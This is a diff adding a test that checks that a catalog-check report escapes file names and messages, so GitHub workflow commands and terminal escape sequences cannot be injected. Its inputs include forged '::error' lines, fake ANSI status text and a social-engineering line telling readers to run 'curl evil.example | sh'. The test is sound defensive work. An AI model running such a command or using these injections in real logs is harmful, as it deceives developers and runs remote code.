@@ -79,6 +79,59 @@ describe('catalog-lens check report', () => {
     assert.match(formatText(report([], { catalog: undefined })), /syntax only \(no catalog configured\)/);
   });
 
+  test('text: names and catalog text are printed visibly escaped; no line starts as a workflow command (security-probe Part 2, finding 13)', () => {
+    const workflow =
+      'a\n::error file=SECURITY.md,line=1::Secret scanning found a leaked key - run curl evil.example | sh to rotate\n.py';
+    const terminal = '\u001b]0;owned-title\u0007\u001b[1;31mFAKE: 0 errors\u001b[0m\u001b[2K.py';
+    const text = formatText(
+      report([], {
+        files: [
+          { path: workflow, findings: [malformed] },
+          { path: terminal, findings: [malformed] },
+          { path: '::warning::forged.py', findings: [malformed] },
+          { path: ' \u00a0::notice::indented.py', findings: [malformed] },
+          {
+            path: 'x##[error]old-syntax.py',
+            findings: [{ ...unknown, message: 'Dataset a\r\n::error::b\u202Ec is unknown' }],
+          },
+        ],
+        skipped: [{ path: '::debug::skipped\u2028.json', reason: 'over 5 MiB\n::error::reason' }],
+        catalogProblem: 'error: the catalog said\n::error::boom',
+        catalog: 'http://127.0.0.1:9410/\u001b[2K',
+      }),
+    );
+    const lines = text.split('\n');
+    assert.equal(lines.pop(), '', 'the report ends with a line break');
+    // One line per finding, skipped file, catalog problem and the summary: no injected line.
+    assert.equal(lines.length, 5 + 1 + 1 + 1, text);
+    for (const line of lines) {
+      assert.doesNotMatch(line, /^\s*::/, `a line GitHub reads as a workflow command: ${JSON.stringify(line)}`);
+      assert.doesNotMatch(line, /##\[/, `a line the runner reads as a ##[command]: ${JSON.stringify(line)}`);
+      // No control character (ESC, BEL, CR …), no line or paragraph separator, no bidi override.
+      assert.doesNotMatch(line, /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/, JSON.stringify(line));
+    }
+    assert.equal(
+      lines[0],
+      'a\\u000A::error file=SECURITY.md,line=1::Secret scanning found a leaked key - run curl evil.example | sh to rotate\\u000A.py:3:10: error: expected 3 parts (platform, name, env), found 2 [malformed-urn]',
+    );
+    assert.equal(
+      lines[1],
+      '\\u001B]0;owned-title\\u0007\\u001B[1;31mFAKE: 0 errors\\u001B[0m\\u001B[2K.py:3:10: error: expected 3 parts (platform, name, env), found 2 [malformed-urn]',
+    );
+    // A leading `::` (or white space and `::`) is made a relative path that names the same file.
+    assert.match(lines[2]!, /^\.\/::warning::forged\.py:3:10: error: /);
+    assert.match(lines[3]!, /^\.\/ \u00a0::notice::indented\.py:3:10: /);
+    assert.match(
+      lines[4]!,
+      /^x#\\u0023\[error\]old-syntax\.py:7:10: warning: Dataset a\\u000D\\u000A::error::b\\u202Ec is unknown \[unknown-urn\]$/,
+    );
+    assert.equal(lines[5], './::debug::skipped\\u2028.json: skipped: over 5 MiB\\u000A::error::reason');
+    assert.equal(lines[6], 'catalog: error: the catalog said\\u000A::error::boom');
+    assert.match(lines[7]!, /checked against http:\/\/127\.0\.0\.1:9410\/\\u001B\[2K: /);
+    // Ordinary paths are printed as they are.
+    assert.match(formatText(report([malformed])), /^pipelines\/a b\.py:3:10: /);
+  });
+
   test('the exit code follows --fail-on, and a catalog that could not be asked is 3', () => {
     assert.equal(exitCode(report([]), 'error'), 0);
     assert.equal(exitCode(report([unknown, undocumented]), 'error'), 0);
